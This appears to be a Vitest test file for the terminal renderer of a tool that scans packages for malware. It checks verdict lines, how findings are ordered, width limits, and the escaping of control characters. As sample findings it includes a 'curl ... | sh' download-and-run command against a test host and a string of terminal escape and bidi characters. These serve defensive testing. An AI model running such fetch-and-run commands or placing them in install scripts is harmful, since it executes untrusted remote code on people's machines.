import { describe, expect, it } from 'vitest';
import { sampleAnalysis, sampleFinding, scannedAs, scannedInVain } from '../testing/sample-scan.ts';
import { renderScanResult } from './render.ts';
import type { Scanned } from './scanner.ts';

const plain = { colour: false, columns: null };
const file = { kind: 'file', path: '/t/x-1.0.0.tgz' } as const;

function shown(scanned: Scanned, look: Parameters<typeof renderScanResult>[1] = plain): string[] {
  return renderScanResult(scanned, look).split('\n');
}

describe('renderScanResult', () => {
  it('says the verdict, then why, then what was not read', () => {
    const analysis = sampleAnalysis([sampleFinding()], {
      skipped: [{ file: 'big.bin', reason: 'over the byte budget', sizeBytes: 5 }],
    });

    expect(shown(scannedAs('x-1.0.0.tgz', file, analysis))).toEqual([
      'malicious     x-1.0.0.tgz  (score 97, level critical, malware, 42 ms)',
      '    critical  package.json:5, runs at install [lifecycle-script/download-and-run]',
      '              what is downloaded is run by sh',
      '              | curl -s https://a.weir.test | sh',
      '    not read  big.bin: over the byte budget',
    ]);
  });

  it('says which release before a release was compared with', () => {
    const { result, analysed } = scannedAs('x-1.0.1.tgz', file, sampleAnalysis([]));
    const held = analysed.map((one) => ({ ...one, comparison: { version: '1.0.0\n', missed: [] } }));

    expect(shown({ result, analysed: held })[0]).toBe(
      'malicious     x-1.0.1.tgz  (score 97, level critical, malware, compared with 1.0.0\\u{a}, 42 ms)',
    );
  });

  it('is one line for what is benign', () => {
    const judgement = {
      ...sampleAnalysis([]).judgement,
      verdict: 'benign',
      level: 'low',
      class: null,
    } as const;

    expect(
      shown(scannedAs('x', file, sampleAnalysis([], { judgement: { ...judgement, score: 0 } }))),
    ).toEqual(['benign        x  (42 ms)']);
  });

  it('puts the worst first, and what is said of one file together', () => {
    const at = (line: number): ReturnType<typeof sampleFinding> =>
      sampleFinding({
        severity: 'medium',
        snippet: null,
        location: { file: 'a.js', line, endLine: null, layer: null },
      });

    const lines = shown(scannedAs('x', file, sampleAnalysis([at(9), at(3), at(3), sampleFinding()])));

    expect(lines.slice(1)).toEqual([
      '    critical  package.json:5, runs at install [lifecycle-script/download-and-run]',
      '              what is downloaded is run by sh',
      '              | curl -s https://a.weir.test | sh',
      '    medium    a.js:9, runs at install [lifecycle-script/download-and-run]',
      '              what is downloaded is run by sh; also in line 3',
    ]);
  });

  it('names the line of the file for what is hidden in a layer', () => {
    const location = { file: 'a.js', line: 2, endLine: null, layer: 'base64' };
    const hidden = sampleFinding({ location, chain: ['a.js:70 base64', 'eval'] });
    const hook = sampleFinding({ location: { ...location, layer: 'sh' }, chain: ['curl'] });

    const lines = shown(scannedAs('x', file, sampleAnalysis([hidden, hook])));

    expect(lines[1]).toContain('a.js:70 under base64 (line 2 of that), runs');
    expect(lines[4]).toContain('a.js:2 under sh, runs');
  });

  it('says less of more than a person reads', () => {
    const many = Array.from({ length: 20 }, (_, index) => sampleFinding({ summary: `number ${index}` }));
    const skipped = many.map((_, index) => ({ file: `${index}.bin`, reason: 'too large', sizeBytes: null }));

    const lines = shown(scannedAs('x', file, sampleAnalysis(many, { skipped })));

    expect(lines).toContain('    and 12 more findings (--format ndjson lists them)');
    expect(lines.at(-1)).toBe('    not read  15 more (--format ndjson lists them)');
  });

  it('keeps to the width of the terminal', () => {
    const long = sampleFinding({ summary: 'word '.repeat(60).trim(), snippet: 'x'.repeat(300) });

    const lines = shown(scannedAs('x', file, sampleAnalysis([long])), { colour: false, columns: 60 });

    expect(Math.max(...lines.slice(2).map((line) => line.length))).toBeLessThanOrEqual(60);
    expect(lines.join(' ').match(/word/g)).toHaveLength(60);
  });

  it('lets nothing of a package reach the terminal as a command', () => {
    const evil = '\u001b[2J\u202E\r\n\u009b31m';
    const finding = sampleFinding({
      rule: `x/${evil}`,
      summary: evil,
      snippet: evil,
      location: { file: evil, line: 1, endLine: null, layer: evil },
    });
    const scanned = scannedAs(
      evil,
      file,
      sampleAnalysis([finding], { skipped: [{ file: evil, reason: evil, sizeBytes: 1 }] }),
    );

    const texts = [renderScanResult(scanned, plain), renderScanResult(scannedInVain(evil, evil), plain)];

    // oxlint-disable-next-line no-control-regex -- control characters are what must not be there
    expect(texts.join('').replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
  });

  it('uses colours only when told to', () => {
    const scanned = scannedAs('x', file, sampleAnalysis([sampleFinding()]));

    expect(renderScanResult(scanned, plain)).not.toContain('\u001b');
    const [first] = shown(scanned, { colour: true, columns: 80 });
    expect(first?.startsWith('\u001b[1m\u001b[31mmalicious')).toBe(true);
  });

  it('shows why there is no verdict', () => {
    expect(shown(scannedInVain('a\u202Eb', 'SCAN_TARGET: no such file'))).toEqual([
      'failed        a\\u{202e}b',
      '    no such file',
    ]);
  });
});
